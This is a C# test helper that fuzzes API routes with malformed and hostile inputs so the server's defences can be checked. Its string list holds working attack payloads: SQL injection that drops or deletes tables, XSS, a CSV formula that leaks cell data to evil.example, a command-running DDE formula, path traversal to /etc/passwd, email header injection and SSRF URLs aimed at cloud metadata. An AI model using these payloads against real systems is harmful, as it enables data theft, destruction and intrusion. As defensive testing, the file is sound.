using System.Text;
using System.Text.Json.Nodes;

namespace Steward.Tests.Verification;

/// <summary>One hostile call: what it tries, and what is sent.</summary>
public sealed record HostileCase(string What, string Path, byte[]? Body, string ContentType, IReadOnlyList<(string Name, string Value)> Headers);

/// <summary>
/// Generates malformed and hostile inputs for a route from its declared shape: its path and query parameters, its
/// headers and its body, field by field. Deterministic, so a failure can be replayed.
/// </summary>
public static class Hostile
{
    public static readonly string[] Strings =
    [
        // SQL
        "' OR '1'='1' --", "'; DROP TABLE \"Contacts\"; --", "1); DELETE FROM \"AuditEvents\";--", "\\'; SELECT pg_sleep(10);--",
        // HTML / script
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
        // CSV formulas
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
        // path traversal
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd\u0000.txt", "file:///etc/passwd",
        // control characters, odd Unicode
        "a\u0000b", "\u0007\u001b[31mred\u001b[0m", "line1\r\nline2", "\u202Eevil\u202C", "\uFEFF\u200B\u200D", "😀👩‍👩‍👧", "Ω≈ç√∫",
        // emails, long and odd; at a domain no test's personal value uses: a free-text field (a legal hold's reason) keeps
        // them as typed, and the after-the-run scan would find a recorded value such as "d@example.com" inside "spaced@example.com"
        "a@b", "@hostile.example", "plainaddress", "\"very.(),:;<>[]\\\".unusual\"@hostile.example", new string('l', 300) + "@hostile.example",
        "a@" + new string('d', 300) + ".example", "user@[127.0.0.1]", "jöhn@exämple.com", "a..b@hostile.example", "a@b@c.example",
        " spaced@hostile.example ", "x@hostile.example\r\nBcc: victim@hostile.example", "x@hostile.example,y@hostile.example",
        // dates and numbers as text
        "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "10000-01-01T00:00:00Z", "2026-02-30", "-0001-01-01", "NaN", "Infinity", "-1", "1e309",
        // URLs a server must not fetch
        "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:5432/", "gopher://localhost:25/",
        // empty and blank
        "", " ", "null",
        // huge
        new string('A', 100_000), string.Concat(Enumerable.Repeat("é", 20_000)),
    ];

    private static readonly JsonNode?[] WrongTypes = [null, 0, -1, 2147483648L, 1.5, true, "text", new JsonArray(), new JsonObject(), new JsonArray(1, "a", null)];

    private static readonly string[] OddDates =
        ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59.9999999Z", "2026-02-30T00:00:00Z", "1970-01-01T00:00:00+14:00", "2026-11-02", "yesterday", "-62135596800"];

    /// <summary>
    /// Every case for a route. The cases come in groups — each path parameter, each query parameter, each header, the
    /// body as a whole, its content type, mass assignment, each field — taken in turns, each group's most general
    /// case first, so that a caller who stops after any number of them has tried every group about equally.
    /// </summary>
    public static IEnumerable<HostileCase> For(Route route, Func<string, string> fill, string? baseline, string contentType, IReadOnlyList<Guid> foreignIds)
    {
        var groups = Groups(route, fill, baseline, contentType, foreignIds).Select(g => g.GetEnumerator()).ToList();
        while (groups.Count > 0)
            foreach (var group in groups.ToList())
                if (group.MoveNext()) yield return group.Current;
                else groups.Remove(group);
    }

    private static IEnumerable<IEnumerable<HostileCase>> Groups(Route route, Func<string, string> fill, string? baseline, string contentType, IReadOnlyList<Guid> foreignIds)
    {
        var path = route.Path(fill);
        var none = Array.Empty<(string, string)>();
        // parameters in the path: each replaced by hostile text (a typed one then matches no route: 404)
        // (a NUL in a path never reaches the app: the server refuses the request line; the test host throws)
        foreach (var name in route.PathParameters)
            yield return Strings.Where(s => s.Length is > 0 and < 5000 && !s.Contains('\0', StringComparison.Ordinal)).Take(40)
                .Select(value => new HostileCase($"path {{{name}}} = {Show(value)}", route.Path(n => n == name ? value : fill(n)), Bytes(baseline), contentType, none));
        // query parameters: hostile text, wrong types, repeated
        foreach (var input in route.Inputs.Where(i => !i.Header))
            yield return Strings.Concat(OddDates).Concat(["2147483648", "-2147483649", "abc", "1.5", "maybe", "00000000-0000-0000-0000-000000000000"])
                .Select(value => new HostileCase($"query {input.Name} = {Show(value)}", WithQuery(path, input.Name, value), Bytes(baseline), contentType, none))
                .Append(new($"query {input.Name} twice", WithQuery(WithQuery(path, input.Name, "1"), input.Name, "2"), Bytes(baseline), contentType, none));
        foreach (var input in route.Inputs.Where(i => i.Header))
            yield return Strings.Where(s => s.All(c => c is >= ' ' and < '\u007f'))
                .Select(value => new HostileCase($"header {input.Name} = {Show(value)}", path, Bytes(baseline), contentType, [(input.Name, value)]));
        if (baseline is null) yield break;

        // the body as a whole, and its content type
        yield return WholeBodies(baseline).Select(b => new HostileCase(b.What, path, b.Body, contentType, none)).Prepend(new("no body", path, null, contentType, none));
        yield return new[] { "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16" }
            .Select(type => new HostileCase($"content type {type}", path, Bytes(baseline), type, none));
        if (contentType != "application/json")
        {
            yield return TextBodies(baseline).Select(b => new HostileCase(b.What, path, b.Body, contentType, none));
            yield break;
        }

        if (JsonNode.Parse(baseline) is not JsonObject shape) yield break;
        // mass assignment: properties the contract does not have, among them the ones an attacker would like to set
        yield return new[] { "id", "clientId", "tenantId", "role", "isDeleted", "erasedAt", "status", "createdAt", "legalHold", "retentionUntil", "staffId", "__proto__", "$type" }
            .Where(extra => !shape.ContainsKey(extra)).Select(extra =>
            {
                var body = shape.DeepClone().AsObject();
                body[extra] = extra is "clientId" or "tenantId" or "staffId" ? foreignIds[0].ToString() : "admin";
                return new HostileCase($"extra property {extra}", path, Bytes(body.ToJsonString()), contentType, none);
            });
        // field by field, one level into objects and arrays
        foreach (var field in Fields(shape, ""))
            yield return FieldCases(shape, field, foreignIds).Select(c => new HostileCase(c.What, path, Bytes(c.Body), contentType, none));
    }

    private static IEnumerable<(string What, byte[] Body)> WholeBodies(string baseline)
    {
        foreach (var text in new[] { "", "null", "[]", "{}", "0", "\"text\"", "true", "{", "{\"a\":", "}{", "{\"a\":1,}", "{/*c*/}", "[1,2,3]", baseline + baseline, baseline[..(baseline.Length / 2)] })
            yield return ($"body {Show(text)}", Encoding.UTF8.GetBytes(text));
        yield return ("body with a byte order mark", [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(baseline)]);
        yield return ("body that is not UTF-8", [.. Encoding.UTF8.GetBytes("{\"a\":\""), 0xC3, 0x28, 0xFF, 0xFE, .. Encoding.UTF8.GetBytes("\"}")]);
        yield return ("body that is UTF-16", Encoding.Unicode.GetBytes(baseline));
        yield return ("body of random bytes", Enumerable.Range(0, 4096).Select(i => (byte)(i * 7919 % 251)).ToArray());
        yield return ("body nested 10,000 deep", Encoding.UTF8.GetBytes(new string('[', 10_000) + new string(']', 10_000)));
        yield return ("body of 2 MB", Encoding.UTF8.GetBytes("{\"a\":\"" + new string('x', 2_000_000) + "\"}"));
        yield return ("body with 100,000 properties", Encoding.UTF8.GetBytes("{" + string.Join(",", Enumerable.Range(0, 100_000).Select(i => $"\"p{i}\":1")) + "}"));
    }

    private static IEnumerable<(string What, byte[] Body)> TextBodies(string baseline)
    {
        var lines = baseline.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        foreach (var value in Strings)
            yield return ($"cell {Show(value)}", Encoding.UTF8.GetBytes(lines[0] + "\r\n" + string.Join(",", lines[1].Split(',').Select((c, i) => i == 0 ? c : "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"")) + "\r\n"));
        yield return ("header only", Encoding.UTF8.GetBytes(lines[0] + "\r\n"));
        yield return ("no header", Encoding.UTF8.GetBytes(lines[1] + "\r\n"));
        yield return ("unbalanced quote", Encoding.UTF8.GetBytes(lines[0] + "\r\n\"a@hostile.example,x\r\n"));
        yield return ("10,000 columns", Encoding.UTF8.GetBytes(string.Join(",", Enumerable.Range(0, 10_000).Select(i => "c" + i)) + "\r\n" + lines[1] + "\r\n"));
        yield return ("a 500 KB cell", Encoding.UTF8.GetBytes(lines[0] + "\r\n" + lines[1] + new string('x', 500_000) + "\r\n"));
        yield return ("duplicate header columns", Encoding.UTF8.GetBytes(lines[0] + "," + lines[0] + "\r\n" + lines[1] + "," + lines[1] + "\r\n"));
    }

    /// <summary>Paths of the fields of an object: top level, and one level into nested objects and first array items.</summary>
    private static IEnumerable<string[]> Fields(JsonObject shape, string _)
    {
        foreach (var (name, value) in shape)
        {
            yield return [name];
            if (value is JsonObject inner) foreach (var (child, _) in inner) yield return [name, child];
            if (value is JsonArray { Count: > 0 } array && array[0] is JsonObject item) foreach (var (child, _) in item) yield return [name, "0", child];
        }
    }

    private static IEnumerable<(string What, string Body)> FieldCases(JsonObject shape, string[] field, IReadOnlyList<Guid> foreignIds)
    {
        var name = string.Join(".", field);
        var current = Get(shape, field);
        yield return ($"{name} missing", Set(shape, field, null, remove: true));
        var isString = current is JsonValue v && v.TryGetValue<string>(out _);
        var text = isString ? current!.GetValue<string>() : null;
        foreach (var wrong in WrongTypes) yield return ($"{name} = {Show(wrong?.ToJsonString() ?? "null")}", Set(shape, field, wrong?.DeepClone()));
        if (current is JsonArray)
        {
            yield return ($"{name} with 100,000 items", Set(shape, field, new JsonArray(Enumerable.Range(0, 100_000).Select(i => (JsonNode?)JsonValue.Create(i)).ToArray())));
            if (current is JsonArray { Count: > 0 } items)
                yield return ($"{name} with 1,000 copies", Set(shape, field, new JsonArray(Enumerable.Range(0, 1000).Select(_ => items[0]?.DeepClone()).ToArray())));
        }
        // spliced in as text: System.Text.Json neither parses nor writes past depth 64
        yield return ($"{name} nested 500 deep", Set(shape, field, "PLACEHOLDER").Replace("\"PLACEHOLDER\"",
            string.Concat(Enumerable.Repeat("{\"a\":", 500)) + "1" + new string('}', 500), StringComparison.Ordinal));
        if (text is not null && Guid.TryParse(text, out _))
            foreach (var id in foreignIds) yield return ($"{name} = client B's id {id}", Set(shape, field, id.ToString()));
        if (text is not null && DateTimeOffset.TryParse(text, out _))
            foreach (var date in OddDates) yield return ($"{name} = {date}", Set(shape, field, date));
        foreach (var value in Strings) yield return ($"{name} = {Show(value)}", Set(shape, field, value));
        // a lone surrogate: valid JSON, not valid Unicode
        yield return ($"{name} = a lone surrogate", Set(shape, field, "PLACEHOLDER").Replace("\"PLACEHOLDER\"", "\"\\ud800x\"", StringComparison.Ordinal));
    }

    private static JsonNode? Get(JsonObject shape, string[] field)
    {
        JsonNode? node = shape;
        foreach (var part in field) node = node is JsonArray a ? a[int.Parse(part, System.Globalization.CultureInfo.InvariantCulture)] : node?[part];
        return node;
    }

    private static string Set(JsonObject shape, string[] field, JsonNode? value, bool remove = false)
    {
        var copy = shape.DeepClone();
        JsonNode parent = copy;
        foreach (var part in field[..^1]) parent = parent is JsonArray a ? a[int.Parse(part, System.Globalization.CultureInfo.InvariantCulture)]! : parent[part]!;
        if (parent is JsonObject o)
        {
            if (remove) o.Remove(field[^1]);
            else o[field[^1]] = value;
        }
        return copy.ToJsonString();
    }

    private static string WithQuery(string path, string name, string value) =>
        path + (path.Contains('?', StringComparison.Ordinal) ? "&" : "?") + Uri.EscapeDataString(name) + "=" + Uri.EscapeDataString(value);

    private static byte[]? Bytes(string? text) => text is null ? null : Encoding.UTF8.GetBytes(text);

    public static string Show(string value) => value.Length > 40 ? $"{value.Length} characters" : "'" + value.Replace("\r", "\\r", StringComparison.Ordinal).Replace("\n", "\\n", StringComparison.Ordinal) + "'";
}
